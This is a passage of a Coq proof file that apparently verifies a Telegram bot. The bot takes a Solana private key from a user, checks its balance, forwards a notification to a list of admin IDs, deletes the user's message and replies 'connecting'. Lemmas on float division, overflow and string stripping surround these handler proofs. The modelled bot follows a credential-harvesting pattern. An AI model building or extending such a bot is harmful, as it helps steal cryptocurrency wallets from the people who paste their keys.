        replace (Z.max 0 (- e0)) with 0 by lia.
        replace (Z.max 0 e0) with e0 by lia.
        rewrite (Z.mul_comm m0); exact Herr.
  - (* the dividend is scaled *)
    replace (Z.max 0 (- e0)) with (- e0) in * by lia.
    replace (Z.max 0 e0) with 0 in * by lia.
    assert (0 < 2 ^ (- e0 - 1)) as Hp by (apply Z.pow_pos_nonneg; lia).
    assert (2 ^ (- e0) = 2 * 2 ^ (- e0 - 1)) as Hpow
      by (replace (- e0) with (1 + (- e0 - 1)) at 1 by lia;
          rewrite Z.pow_add_r by lia; reflexivity).
    destruct (m0 =? 2 ^ 53) eqn:Hm.
    + apply Z.eqb_eq in Hm.
      destruct (2 ^ 52 =? 0) eqn:Hz; [apply Z.eqb_eq in Hz; lia|].
      destruct (emax <? e0 + 1); [discriminate|].
      intros [= <- <-].
      replace (Z.max 0 (- (e0 + 1))) with (- e0 - 1) by lia.
      replace (Z.max 0 (e0 + 1)) with 0 by lia.
      rewrite Hm, Hpow in Herr; lia.
    + destruct (m0 =? 0) eqn:Hz.
      * apply Z.eqb_eq in Hz; intros [= <- <-]; rewrite Hz in Herr.
        change (Z.max 0 (- 0)) with 0; change (Z.max 0 0) with 0.
        rewrite Hpow in Herr; nia.
      * destruct (emax <? e0); [discriminate|].
        intros [= <- <-].
        replace (Z.max 0 (- e0)) with (- e0) by lia.
        replace (Z.max 0 e0) with 0 by lia.
        rewrite (Z.mul_comm m0); exact Herr.
Qed.

Lemma div_half_even_ge (n d : Z) : n / d <= div_half_even n d.
Proof. unfold div_half_even; cbv zeta; case_match; lia. Qed.

Lemma log2_quot_ge (a b : Z) : Z.log2 a - Z.log2 b - 1 <= log2_quot a b.
Proof. unfold log2_quot; repeat case_match; lia. Qed.

(** The quotient is out of range as soon as the bit lengths are 1025
    apart. *)
Lemma round_quot_overflow (a b : Z) :
  0 < a -> 0 < b -> 1025 <= Z.log2 a - Z.log2 b -> round_quot a b = None.
Proof.
  intros Ha Hb Hlog; unfold round_quot.
  destruct (a =? 0) eqn:Ha0; [apply Z.eqb_eq in Ha0; lia|].
  pose proof (log2_quot_ge a b) as Hge.
  pose proof (log2_quot_lower a b Ha Hb) as Hlow; cbv zeta in Hlow.
  set (l := log2_quot a b) in *.
  assert ((0 <=? l) = true) as Hl by (apply Z.leb_le; lia).
  rewrite Hl in Hlow.
  set (e0 := Z.max emin (l - 52)).
  assert (e0 = l - 52) as He0 by (unfold e0, emin; lia).
  replace (Z.max 0 (- e0)) with 0 by lia.
  replace (Z.max 0 e0) with e0 by lia.
  rewrite Z.pow_0_r, Z.mul_1_r.
  assert (0 < 2 ^ e0) as Hp by (apply Z.pow_pos_nonneg; lia).
  assert (2 ^ l = 2 ^ e0 * 2 ^ 52) as Hpow
    by (rewrite <- Z.pow_add_r by lia; f_equal; lia).
  assert (2 ^ 52 <= div_half_even a (b * 2 ^ e0)) as Hm.
  { etransitivity; [|apply div_half_even_ge].
    apply Z.div_le_lower_bound; [lia|].
    rewrite Hpow in Hlow; lia. }
  set (m0 := div_half_even a (b * 2 ^ e0)) in *.
  change (2 ^ 52) with 4503599627370496 in *.
  change (2 ^ 53) with 9007199254740992.
  destruct (m0 =? 9007199254740992).
  - change (4503599627370496 =? 0) with false; cbv iota.
    destruct (emax <? e0 + 1) eqn:Ho; [reflexivity|].
    apply Z.ltb_ge in Ho; unfold emax in Ho; lia.
  - destruct (m0 =? 0) eqn:Hz; [apply Z.eqb_eq in Hz; lia|].
    destruct (emax <? e0) eqn:Ho; [reflexivity|].
    apply Z.ltb_ge in Ho; unfold emax in Ho; lia.
Qed.

Lemma int_truediv_overflow (v : Z) :
  2 ^ 1054 <= Z.abs v ->
  int_truediv v 1000000000
  = Raise (OverflowError "integer division result too large for a float").
Proof.
  intros Hv; unfold int_truediv.
  change (1000000000 =? 0) with false; cbv iota.
  change (Z.abs 1000000000) with 1000000000.
  assert (0 < 2 ^ 1054) as Hp by (apply Z.pow_pos_nonneg; lia).
  rewrite round_quot_overflow; [reflexivity|lia|lia|].
  change (Z.log2 1000000000) with 29.
  assert (1054 <= Z.log2 (Z.abs v)); [|lia].
  apply Z.log2_le_pow2; lia.
Qed.

Lemma int_truediv_error (v : Z) (amount : float) :
  int_truediv v 1000000000 = Ok amount ->
  exists m e,
    amount = Finite (v <? 0) m e
    /\ 2 * Z.abs (Z.abs v * 2 ^ Z.max 0 (- e)
                  - m * (1000000000 * 2 ^ Z.max 0 e))
       <= 1000000000 * 2 ^ Z.max 0 e.
Proof.
  unfold int_truediv.
  change (1000000000 =? 0) with false; cbv iota.
  change (1000000000 <? 0) with false; rewrite xorb_false_r.
  change (Z.abs 1000000000) with 1000000000.
  destruct (round_quot (Z.abs v) 1000000000) as [[m e]|] eqn:Hq;
    [|discriminate].
  intros [= <-]; exists m, e; split; [reflexivity|].
  destruct (Z.eq_dec v 0) as [->|Hv].
  - vm_compute in Hq; injection Hq as <- <-; vm_compute; discriminate.
  - apply round_quot_error; [lia|lia|exact Hq].
Qed.

Section LookupClaims.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.

(** C3.  When the credential decodes to 64 bytes the lookup runs on the
    first 32 of them, and when it decodes to 32 bytes on all of them: the
    request posted is the one for the public identifier of that seed, a
    returned public identifier is that identifier, and a credential that
    decodes to the 32-byte prefix gives the same lookup. *)
Theorem seed_is_first_32_bytes private_key decoded s :
  b58decode private_key = Ok decoded ->
  length decoded = 64%nat \/ length decoded = 32%nat ->
  let seed := take 32 decoded in
  get_solana_balance_async E private_key s
  = try_except (lookup_with_seed E seed) lookup_handler s
  /\ (length decoded = 32%nat -> seed = decoded)
  /\ snd (get_solana_balance_async E private_key s)
     = logged s [Post (balance_request (public_id seed))
                      (httpx_post E (log s) (balance_request (public_id seed)))]
  /\ (forall balance public_key_str,
        fst (get_solana_balance_async E private_key s)
        = Ok (Some balance, public_key_str) ->
        public_key_str = public_id seed)
  /\ (forall prefix_key,
        b58decode prefix_key = Ok seed ->
        get_solana_balance_async E prefix_key s
        = get_solana_balance_async E private_key s).
Proof.
  intros Hdec Hlen seed.
  pose proof (length_take_32 _ Hlen) as Hseed; fold seed in Hseed.
  pose proof (get_solana_balance_async_seed E _ _ s Hdec Hlen) as Heq.
  fold seed in Heq; rewrite Heq.
  split; [reflexivity|split; [apply take_32_of_32|split; [|split]]].
  - apply (lookup_with_seed_state E seed s Hseed).
  - intros balance public_key_str; clear Heq.
    unfold lookup_with_seed, SigningKey_verify_key; rewrite Hseed; simpl.
    unfold_M; fold (public_id seed).
    destruct (httpx_post E (log s) _) as [resp|e]; [|discriminate].
    destruct (status_code resp =? 200); [|discriminate].
    destruct (body resp) as [data|e]; [|discriminate].
    destruct (py_in "result" data) as [[|]|e]; try discriminate.
    + destruct (py_getitem data "result") as [res|e]; [|discriminate].
      destruct (py_in "value" res) as [[|]|e]; try discriminate.
      * destruct (py_getitem res "value") as [lamports|e]; [|discriminate].
        destruct (py_truediv lamports 1000000000); [|discriminate].
        intros [= _ <-]; reflexivity.
      * destruct (py_get data "error" _); discriminate.
    + destruct (py_get data "error" _); discriminate.
  - intros prefix_key Hprefix.
    rewrite (get_solana_balance_async_seed E _ _ s Hprefix (or_intror Hseed)).
    rewrite (take_32_of_32 _ Hseed); reflexivity.
Qed.

(** C7, amended.  When the endpoint answers 200 with a body in which
    [result.value] is an integer [v] below [2^1052] in absolute value,
    the lookup returns Python's quotient [v / 10^9] and the public
    identifier of the seed.  The quotient is a finite float with the sign
    of [v] whose value [m * 2^e] is within half a unit in the last place
    of [|v| / 10^9]; for [v = 1500000000] it is the float 1.5, rendered
    [1.5000].  When the division raises, the lookup returns the error
    pair made from the exception, and it does raise, with an
    [OverflowError], for every [v] of [2^1054] or more in absolute
    value. *)
Theorem lookup_reports_major_units private_key decoded s resp m r v :
  b58decode private_key = Ok decoded ->
  length decoded = 64%nat \/ length decoded = 32%nat ->
  httpx_post E (log s) (balance_request (public_id (take 32 decoded)))
  = Ok resp ->
  status_code resp = 200 ->
  body resp = Ok (JObj m) ->
  m !! "result" = Some (JObj r) ->
  r !! "value" = Some (JInt v) ->
  (Z.abs v < 2 ^ 1052 ->
   exists amount,
     int_truediv v 1000000000 = Ok amount
     /\ fst (get_solana_balance_async E private_key s)
        = Ok (Some amount, public_id (take 32 decoded))
     /\ (exists m e,
           amount = Finite (v <? 0) m e
           /\ 2 * Z.abs (Z.abs v * 2 ^ Z.max 0 (- e)
                         - m * (1000000000 * 2 ^ Z.max 0 e))
              <= 1000000000 * 2 ^ Z.max 0 e)
     /\ (v = 1500000000 ->
         amount = Finite false (3 * 2 ^ 51) (-52)
         /\ format_4f amount = "1.5000"))
  /\ (forall e,
        int_truediv v 1000000000 = Raise e ->
        fst (get_solana_balance_async E private_key s)
        = Ok (None, "Error: " +:+ exn_str e))
  /\ (2 ^ 1054 <= Z.abs v ->
      fst (get_solana_balance_async E private_key s)
      = Ok (None, "Error: integer division result too large for a float")).
Proof.
  intros Hdec Hlen Hpost Hst Hbody Hres Hval.
  assert (forall e,
            int_truediv v 1000000000 = Raise e ->
            fst (get_solana_balance_async E private_key s)
            = Ok (None, "Error: " +:+ exn_str e)) as Hraise.
  { intros e Hdiv.
    rewrite (get_solana_balance_async_seed E _ _ s Hdec Hlen).
    rewrite (lookup_value E _ s (length_take_32 _ Hlen) _ _ _ _
               Hpost Hst Hbody Hres Hval).
    simpl; rewrite Hdiv; reflexivity. }
  split; [|split; [exact Hraise|]].
  - intros Hv.
    destruct (int_truediv_in_range v Hv) as [amount Hdiv].
    exists amount; split; [exact Hdiv|split; [|split]];
      [|exact (int_truediv_error v amount Hdiv)|].
    + rewrite (get_solana_balance_async_seed E _ _ s Hdec Hlen).
      rewrite (lookup_value E _ s (length_take_32 _ Hlen) _ _ _ _
                 Hpost Hst Hbody Hres Hval).
      simpl; rewrite Hdiv; reflexivity.
    + intros ->; vm_compute in Hdiv; injection Hdiv as <-.
      split; vm_compute; reflexivity.
  - intros Hv; exact (Hraise _ (int_truediv_overflow v Hv)).
Qed.

End LookupClaims.

Lemma seed_is_first_32_bytes_witness :
  get_solana_balance_async (H:=base58_package) (H0:=nacl_stand_in)
    (H1:=builtins_ascii) (delivering (Raise timed_out)) key32 fresh_session
  = get_solana_balance_async (H:=base58_package) (H0:=nacl_stand_in)
      (H1:=builtins_ascii) (delivering (Raise timed_out)) key64 fresh_session.
Proof.
  eapply (seed_is_first_32_bytes (H:=base58_package) (H0:=nacl_stand_in)
            (H1:=builtins_ascii) (delivering (Raise timed_out)) key64).
  - vm_compute; reflexivity.
  - left; reflexivity.
  - vm_compute; reflexivity.
Defined.

Lemma lookup_reports_major_units_witness :
  exists amount,
    fst (get_solana_balance_async (H:=base58_package) (H0:=nacl_stand_in)
           (H1:=builtins_ascii)
           (delivering
              (ok_json (JObj {[ "result" := JObj {[ "value" := JInt 1500000000 ]} ]})))
           key32 fresh_session)
    = Ok (Some amount, key32)
    /\ format_4f amount = "1.5000".
Proof.
  assert (b58decode (Base58Lib:=base58_package) key32 = Ok key32_bytes)
    as Hdec by (vm_compute; reflexivity).
  assert (({[ "result" := JObj {[ "value" := JInt 1500000000 ]} ]}
             : gmap string json) !! "result"
          = Some (JObj {[ "value" := JInt 1500000000 ]}))
    as Hres by (vm_compute; reflexivity).
  assert (({[ "value" := JInt 1500000000 ]} : gmap string json) !! "value"
          = Some (JInt 1500000000))
    as Hval by (vm_compute; reflexivity).
  destruct (proj1 (lookup_reports_major_units (H:=base58_package)
                     (H0:=nacl_stand_in) (H1:=builtins_ascii)
                     (delivering
                        (ok_json (JObj {[ "result" := JObj {[ "value" := JInt 1500000000 ]} ]})))
                     key32 key32_bytes fresh_session
                     {| status_code := 200;
                        body := Ok (JObj {[ "result" := JObj {[ "value" := JInt 1500000000 ]} ]}) |}
                     _ _ 1500000000
                     Hdec (or_intror eq_refl) eq_refl eq_refl eq_refl
                     Hres Hval))
    as (amount & _ & Hout & _ & Hfmt).
  - vm_compute; reflexivity.
  - exists amount; split; [exact Hout|apply Hfmt; reflexivity].
Defined.

(** C7 as stated fails on an integer too large for a float: the division
    raises and the lookup returns the error pair. *)
Lemma lookup_overflow_counterexample :
  fst (get_solana_balance_async (H:=base58_package) (H0:=nacl_stand_in)
         (H1:=builtins_ascii)
         (delivering
            (ok_json (JObj {[ "result" := JObj {[ "value" := JInt (10 ^ 400) ]} ]})))
         key32 fresh_session)
  = Ok (None, "Error: integer division result too large for a float").
Proof. vm_compute; reflexivity. Qed.

Section LookupFailures.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.



End LookupFailures.


(** C6.  The lookup misses a case of a body without [result.value]: on
    the 200 body [{"result": null, "error": "Invalid param"}] the test
    ["value" in data["result"]] of line 150 raises, and the message is
    the text of the [TypeError] instead of the embedded RPC error.  On
    the body [{"error": "Invalid param"}] the [else] branch of line 155
    reports that error. *)
Lemma null_result_hides_rpc_error :
  fst (get_solana_balance_async (H:=base58_package) (H0:=nacl_stand_in)
         (H1:=builtins_ascii)
         (delivering
            (ok_json (JObj {[ "result" := JNull;
                              "error" := JStr "Invalid param" ]})))
         key32 fresh_session)
  = Ok (None, "Error: argument of type 'NoneType' is not iterable")
  /\ fst (get_solana_balance_async (H:=base58_package) (H0:=nacl_stand_in)
            (H1:=builtins_ascii)
            (delivering
               (ok_json (JObj {[ "error" := JStr "Invalid param" ]})))
            key32 fresh_session)
     = Ok (None, "RPC Error: Invalid param").
Proof. split; vm_compute; reflexivity. Qed.

(** ** The handlers *)

Lemma bind_ok {A B} (m : M A) (f : A -> M B) s a s' :
  m s = (Ok a, s') -> (m ≫= f) s = f a s'.
Proof. intros Hm; unfold mbind, M_bind; rewrite Hm; reflexivity. Qed.

Lemma bind_raise {A B} (m : M A) (f : A -> M B) s e s' :
  m s = (Raise e, s') -> (m ≫= f) s = (Raise e, s').
Proof. intros Hm; unfold mbind, M_bind; rewrite Hm; reflexivity. Qed.

Lemma try_bind_ok {A B} (m : M A) (f : A -> M B) h s a s' :
  m s = (Ok a, s') -> try_except (m ≫= f) h s = try_except (f a) h s'.
Proof. intros Hm; unfold try_except; rewrite (bind_ok _ _ _ _ _ Hm); reflexivity. Qed.

Lemma try_bind_raise {A B} (m : M A) (f : A -> M B) h s e s' :
  m s = (Raise e, s') -> try_except (m ≫= f) h s = h e s'.
Proof. intros Hm; unfold try_except; rewrite (bind_raise _ _ _ _ _ Hm); reflexivity. Qed.

Lemma call_eq E c s : call E c s = (outcome E s c, after_call E s c).
Proof. reflexivity. Qed.

(** A call whose failure is swallowed. *)
Lemma call_swallowed E c s :
  try_except (_ ← call E c; mret tt) (fun e => mret tt) s
  = (Ok tt, after_call E s c).
Proof.
  unfold try_except, mbind, M_bind; rewrite call_eq.
  destruct (outcome E s c); reflexivity.
Qed.

Lemma user_data_get_awaiting s :
  awaiting s -> user_data_get "awaiting_private_key" s = (Ok true, s).
Proof. intros Ha; unfold user_data_get; rewrite Ha; reflexivity. Qed.

Lemma new_events_logged s evs : new_events s (logged s evs) = evs.
Proof. unfold new_events, logged; simpl; apply drop_app_length. Qed.

Lemma tg_calls_app l l' :
  tg_calls (l ++ l') = (tg_calls l ++ tg_calls l')%list.
Proof. unfold tg_calls; apply omap_app. Qed.

Lemma tg_calls_admin_log E message admins lg :
  tg_calls (admin_log E message admins lg)
  = map (fun admin_id => send_message admin_id message) admins.
Proof.
  revert lg; induction admins as [|a admins IH]; intros lg; [reflexivity|].
  simpl; unfold tg_calls in *; simpl; rewrite IH; reflexivity.
Qed.

(** The loop over the recipients attempts every delivery, whatever the
    outcome of the earlier ones, and never raises. *)
Lemma for_each_admins E message admins s :
  for_each admins (fun admin_id =>
    try_except (_ ← call E (send_message admin_id message); mret tt)
               (fun e => mret tt)) s
  = (Ok tt, logged s (admin_log E message admins (log s))).
Proof.
  revert s; induction admins as [|a admins IH]; intros s.
  - simpl; rewrite logged_nil; reflexivity.
  - cbn [for_each]; rewrite (bind_ok _ _ _ _ _ (call_swallowed E _ s)).
    rewrite IH; unfold after_call; rewrite logged_logged; reflexivity.
Qed.

Lemma truthy_false (t : string) : truthy t = false <-> t = "".
Proof. destruct t; simpl; split; congruence. Qed.

(** The three branches of [handle_private_key] in a waiting session. *)
Section CredentialBranches.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.
Variable cfg : config.
Variable u : update.
Variable s : state.
Hypothesis Hwaiting : awaiting s.

Let private_key : string := strip (message_text u).

Lemma handle_private_key_empty :
  private_key = "" ->
  let c := reply_text no_key_reply None in
  handle_private_key E cfg u s
  = (then_return (outcome E s c) WAITING_FOR_PRIVATE_KEY, after_call E s c).
Proof.
  intros Hempty c; unfold handle_private_key.
  rewrite (bind_ok _ _ _ _ _ (user_data_get_awaiting s Hwaiting)).
  cbn [negb]; fold private_key; rewrite Hempty; cbn [truthy negb].
  unfold mbind, M_bind; rewrite call_eq; fold c.
  destruct (outcome E s c); reflexivity.
Qed.

Lemma handle_private_key_invalid :
  private_key <> "" ->
  validate_private_key private_key = false ->
  let c := reply_text invalid_format_reply None in
  let c' := reply_text processing_error_reply None in
  handle_private_key E cfg u s
  = match outcome E s c with
    | Ok _ => (Ok WAITING_FOR_PRIVATE_KEY, after_call E s c)
    | Raise _ =>
        (then_return (outcome E (after_call E s c) c') WAITING_FOR_PRIVATE_KEY,
         after_call E (after_call E s c) c')
    end.
Proof.
  intros Hne Hinvalid c c'; unfold handle_private_key.
  rewrite (bind_ok _ _ _ _ _ (user_data_get_awaiting s Hwaiting)).
  cbn [negb]; fold private_key.
  destruct (truthy private_key) eqn:Ht;
    [|apply truthy_false in Ht; contradiction].
  cbn [negb]; rewrite Hinvalid; cbn [negb].
  unfold try_except, mbind, M_bind; rewrite call_eq; fold c.
  destruct (outcome E s c); [reflexivity|].
  rewrite call_eq; fold c'.
  destruct (outcome E (after_call E s c) c'); reflexivity.
Qed.

Lemma handle_private_key_valid out s1 :
  private_key <> "" ->
  validate_private_key private_key = true ->
  get_solana_balance E private_key s = (Ok out, s1) ->
  let s2 := logged s1 (admin_log E (notification u out) (ADMIN_ID_LIST cfg) (log s1)) in
  let s3 := after_call E s2 (delete_message (effective_chat_id u) (message_id u)) in
  let ack := reply_text connecting_reply None in
  let c' := reply_text processing_error_reply None in
  handle_private_key E cfg u s
  = match outcome E s3 ack with
    | Ok _ => (Ok END, with_flag "awaiting_private_key" false (after_call E s3 ack))
    | Raise _ =>
        (then_return (outcome E (after_call E s3 ack) c') WAITING_FOR_PRIVATE_KEY,
         after_call E (after_call E s3 ack) c')
    end.
Proof.
  intros Hne Hvalid Hlookup s2 s3 ack c'; unfold handle_private_key.
  rewrite (bind_ok _ _ _ _ _ (user_data_get_awaiting s Hwaiting)).
  cbn [negb]; fold private_key.
  destruct (truthy private_key) eqn:Ht;
    [|apply truthy_false in Ht; contradiction].
  cbn [negb]; rewrite Hvalid; cbn [negb].
  rewrite (try_bind_ok _ _ _ _ _ _ Hlookup).
  destruct out as [balance public_key_or_error].
  rewrite (try_bind_ok _ _ _ _ _ _ (for_each_admins E _ _ s1)).
  change (admin_message _ _ _ _ _)
    with (notification u (balance, public_key_or_error)); fold s2.
  rewrite (try_bind_ok _ _ _ _ _ _ (call_swallowed E _ s2)); fold s3.
  fold ack; destruct (outcome E s3 ack) as [i|e] eqn:Hack.
  - rewrite (try_bind_ok _ _ _ _ i (after_call E s3 ack))
      by (rewrite call_eq, Hack; reflexivity).
    reflexivity.
  - rewrite (try_bind_raise _ _ _ _ e (after_call E s3 ack))
      by (rewrite call_eq, Hack; reflexivity).
    unfold mbind, M_bind; rewrite call_eq; fold c'.
    destruct (outcome E (after_call E s3 ack) c'); reflexivity.
Qed.

End CredentialBranches.

Lemma after_call_twice E s c c' :
  after_call E (after_call E s c) c'
  = logged s [Tg c (outcome E s c); Tg c' (outcome E (after_call E s c) c')].
Proof. unfold after_call; rewrite logged_logged; reflexivity. Qed.

Lemma then_return_not {A} (r : result Z) (v w : A) :
  v <> w -> then_return r v <> Ok w.
Proof. destruct r; simpl; congruence. Qed.

Ltac all_replies :=
  repeat (apply List.Forall_cons; [eexists; reflexivity|]);
  apply List.Forall_nil.

Section CredentialClaims.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.
Variable cfg : config.

(** C5.  In a waiting session, a text that is empty once stripped is
    answered with the no-credential reply and nothing else happens; a text
    the decoder rejects is answered with the format-error reply, followed
    by the generic error reply only when that answer could not be
    delivered.  In both cases [user_data] is unchanged, so the session
    still waits, no request is made, every call is a reply in the chat
    (nothing is sent to a recipient) and the handler does not return
    [END]. *)
Theorem rejected_text_keeps_waiting (u : update) (s : state) :
  awaiting s ->
  let private_key := strip (message_text u) in
  let returned := fst (handle_private_key E cfg u s) in
  let s' := snd (handle_private_key E cfg u s) in
  let no_key := reply_text no_key_reply None in
  let bad_format := reply_text invalid_format_reply None in
  (private_key = "" ->
   s' = after_call E s no_key
   /\ returned = then_return (outcome E s no_key) WAITING_FOR_PRIVATE_KEY)
  /\ (private_key <> "" -> validate_private_key private_key = false ->
      exists tail,
        new_events s s' = Tg bad_format (outcome E s bad_format) :: tail
        /\ (is_ok (outcome E s bad_format) = true ->
            tail = [] /\ returned = Ok WAITING_FOR_PRIVATE_KEY))
  /\ (private_key = "" \/ validate_private_key private_key = false ->
      user_data s' = user_data s
      /\ awaiting s'
      /\ http_requests (new_events s s') = []
      /\ Forall (fun c => exists t, c = reply_text t None)
                (tg_calls (new_events s s'))
      /\ returned <> Ok END).
Proof.
  intros Hw private_key returned s' no_key bad_format.
  assert (private_key = "" ->
          handle_private_key E cfg u s
          = (then_return (outcome E s no_key) WAITING_FOR_PRIVATE_KEY,
             after_call E s no_key)) as Hempty
    by (apply handle_private_key_empty; exact Hw).
  pose proof (handle_private_key_invalid E cfg u s Hw) as Hinvalid.
  cbv zeta in Hinvalid; fold private_key bad_format in Hinvalid.
  split; [|split].
  - intros Hp; unfold s', returned; rewrite (Hempty Hp); split; reflexivity.
  - intros Hne Hbad; unfold s', returned; rewrite (Hinvalid Hne Hbad).
    destruct (outcome E s bad_format) as [i|e] eqn:Ho; simpl.
    + exists []; unfold after_call; rewrite new_events_logged, Ho.
      split; [reflexivity|intros _; split; reflexivity].
    + eexists; rewrite after_call_twice, new_events_logged, Ho.
      split; [reflexivity|discriminate].
  - intros Hrej.
    assert (private_key = "" \/
            private_key <> "" /\ validate_private_key private_key = false)
      as [Hp|[Hne Hbad]]
      by (destruct Hrej as [?|?]; [auto|];
          destruct private_key; [auto|right; split; [discriminate|assumption]]).
    + unfold s', returned; rewrite (Hempty Hp); simpl.
      unfold after_call; rewrite new_events_logged.
      repeat split; [exact Hw|all_replies|].
      apply then_return_not; discriminate.
    + unfold s', returned; rewrite (Hinvalid Hne Hbad).
      destruct (outcome E s bad_format) as [i|e]; simpl.
      * unfold after_call; rewrite new_events_logged.
        repeat split; [exact Hw|all_replies|].
        discriminate.
      * rewrite after_call_twice, new_events_logged.
        repeat split; [exact Hw|all_replies|].
        apply then_return_not; discriminate.
Qed.

End CredentialClaims.

(** ** Stripping *)

Section Lstrip.

Variable p2 : ascii -> ascii -> bool.
Variable p3 : ascii -> ascii -> ascii -> bool.

Lemma lstrip_with_clean l : starts_ws p2 p3 l = false -> lstrip_with p2 p3 l = l.
Proof.
  destruct l as [|c1 [|c2 [|c3 r3]]]; simpl; try reflexivity.
  - rewrite orb_false_r; intros ->; reflexivity.
  - rewrite orb_false_r; intros [-> ->]%orb_false_elim; reflexivity.
  - intros [-> [-> ->]%orb_false_elim]%orb_false_elim; reflexivity.
Qed.

Lemma lstrip_with_spec n l :
  (length l <= n)%nat ->
  starts_ws p2 p3 (lstrip_with p2 p3 l) = false
  /\ exists k, lstrip_with p2 p3 l = drop k l.
Proof.
  revert l; induction n as [|n IH]; intros l Hn.
  - destruct l; [|simpl in Hn; lia]. split; [reflexivity|exists 0%nat; reflexivity].
  - destruct l as [|c1 r1]; [split; [reflexivity|exists 0%nat; reflexivity]|].
    simpl in Hn; cbn [lstrip_with].
    destruct (ws1 c1) eqn:H1.
    { destruct (IH r1 ltac:(lia)) as [Hc [k Hk]].
      split; [exact Hc|exists (S k); exact Hk]. }
    destruct r1 as [|c2 r2].
    { split; [simpl; rewrite H1; reflexivity|exists 0%nat; reflexivity]. }
    simpl in Hn; destruct (p2 c1 c2) eqn:H2.
    { destruct (IH r2 ltac:(lia)) as [Hc [k Hk]].
      split; [exact Hc|exists (S (S k)); exact Hk]. }
    destruct r2 as [|c3 r3].
    { split; [simpl; rewrite H1, H2; reflexivity|exists 0%nat; reflexivity]. }
    simpl in Hn; destruct (p3 c1 c2 c3) eqn:H3.
    { destruct (IH r3 ltac:(lia)) as [Hc [k Hk]].
      split; [exact Hc|exists (S (S (S k))); exact Hk]. }
    split; [simpl; rewrite H1, H2, H3; reflexivity|exists 0%nat; reflexivity].
Qed.

Lemma lstrip_with_idempotent l :
  lstrip_with p2 p3 (lstrip_with p2 p3 l) = lstrip_with p2 p3 l.
Proof.
  apply lstrip_with_clean, (lstrip_with_spec (length l) l); lia.
Qed.

(** A prefix starts with white space only if the whole sequence does. *)
Lemma starts_ws_take n l : starts_ws p2 p3 l = false -> starts_ws p2 p3 (take n l) = false.
Proof.
  destruct l as [|c1 [|c2 [|c3 r3]]]; destruct n as [|[|[|n]]];
    simpl; try reflexivity; intros Hs;
    repeat match type of Hs with
           | context [ws1 ?c] => destruct (ws1 c)
           | context [p2 ?a ?b] => destruct (p2 a b)
           | context [p3 ?a ?b ?c] => destruct (p3 a b c)
           end; simpl in *; congruence.
Qed.

End Lstrip.

Lemma rstrip_bytes_take l : exists n, rstrip_bytes l = take n l.
Proof.
  unfold rstrip_bytes.
  destruct (lstrip_with_spec (fun c2 c1 => ws2 c1 c2)
              (fun c3 c2 c1 => ws3 c1 c2 c3) (length (rev l)) (rev l))
    as [_ [k ->]]; [lia|].
  exists (length l - k)%nat.
  rewrite skipn_rev, rev_involutive; reflexivity.
Qed.

Lemma rstrip_bytes_idempotent l : rstrip_bytes (rstrip_bytes l) = rstrip_bytes l.
Proof.
  unfold rstrip_bytes; rewrite rev_involutive, lstrip_with_idempotent.
  reflexivity.
Qed.

Lemma lstrip_rstrip_clean l :
  starts_ws ws2 ws3 l = false -> lstrip_bytes (rstrip_bytes l) = rstrip_bytes l.
Proof.
  intros Hl; destruct (rstrip_bytes_take l) as [n ->].
  apply lstrip_with_clean, starts_ws_take, Hl.
Qed.

Lemma strip_idempotent (t : string) : strip (strip t) = strip t.
Proof.
  unfold strip; rewrite list_ascii_of_string_of_list_ascii.
  rewrite lstrip_rstrip_clean, rstrip_bytes_idempotent; [reflexivity|].
  apply (lstrip_with_spec _ _ (length (list_ascii_of_string t))); lia.
Qed.

(** *** What [strip] removes *)

Lemma ws1_code c : ws1 c = true -> (code c <= 32)%N.
Proof.
  unfold ws1; cbv zeta; intros Hc.
  repeat rewrite ?orb_true_iff, ?andb_true_iff, ?N.leb_le in Hc; lia.
Qed.

Lemma ws2_code c1 c2 :
  ws2 c1 c2 = true ->
  (code c1 = 194 /\ (code c2 = 133 \/ code c2 = 160))%N.
Proof.
  unfold ws2; intros Hc.
  repeat rewrite ?orb_true_iff, ?andb_true_iff, ?N.eqb_eq in Hc; lia.
Qed.

Lemma ws3_code c1 c2 c3 :
  ws3 c1 c2 c3 = true ->
  (225 <= code c1 <= 227 /\ 128 <= code c2 <= 154 /\ 128 <= code c3 <= 175)%N.
Proof.
  unfold ws3; cbv beta iota zeta; intros Hc.
  repeat rewrite ?orb_true_iff, ?andb_true_iff, ?N.eqb_eq, ?N.leb_le in Hc.
  lia.
Qed.

Lemma ws1_false c : (32 < code c)%N -> ws1 c = false.
Proof.
  intros Hc; destruct (ws1 c) eqn:Hw; [|reflexivity].
  apply ws1_code in Hw; lia.
Qed.

Lemma ws2_false_l c1 c2 : code c1 <> 194%N -> ws2 c1 c2 = false.
Proof.
  intros Hc; destruct (ws2 c1 c2) eqn:Hw; [|reflexivity].
  apply ws2_code in Hw; lia.
Qed.

Lemma ws2_false_r c1 c2 :
  (code c2 <= 32 \/ 161 <= code c2)%N -> ws2 c1 c2 = false.
Proof.
  intros Hc; destruct (ws2 c1 c2) eqn:Hw; [|reflexivity].
  apply ws2_code in Hw; lia.
Qed.

Lemma ws3_false_2 c1 c2 c3 :
  (code c2 <= 32 \/ 155 <= code c2)%N -> ws3 c1 c2 c3 = false.
Proof.
  intros Hc; destruct (ws3 c1 c2 c3) eqn:Hw; [|reflexivity].
  apply ws3_code in Hw; lia.
Qed.

Lemma ws3_false_3 c1 c2 c3 :
  (code c3 <= 32 \/ 176 <= code c3)%N -> ws3 c1 c2 c3 = false.
Proof.
  intros Hc; destruct (ws3 c1 c2 c3) eqn:Hw; [|reflexivity].
  apply ws3_code in Hw; lia.
Qed.

(** The shapes of a white space character. *)
Lemma space_char_cases ch :
  space_char ch = true ->
  (exists c1, ch = [c1] /\ ws1 c1 = true)
  \/ (exists c1 c2, ch = [c1; c2] /\ ws2 c1 c2 = true)
  \/ (exists c1 c2 c3, ch = [c1; c2; c3] /\ ws3 c1 c2 c3 = true).
Proof.
  destruct ch as [|c1 [|c2 [|c3 [|c4 r]]]]; simpl; try discriminate; eauto 8.
Qed.

(** The first byte of a white space character is no second or third
    byte of one. *)
Lemma space_char_head ch c r :
  space_char ch = true -> ch = c :: r -> (code c <= 32 \/ 194 <= code c)%N.
Proof.
  intros [(c1 & -> & Hc)|[(c1 & c2 & -> & Hc)|(c1 & c2 & c3 & -> & Hc)]]%space_char_cases
    [= <- _].
  - apply ws1_code in Hc; lia.
  - apply ws2_code in Hc; lia.
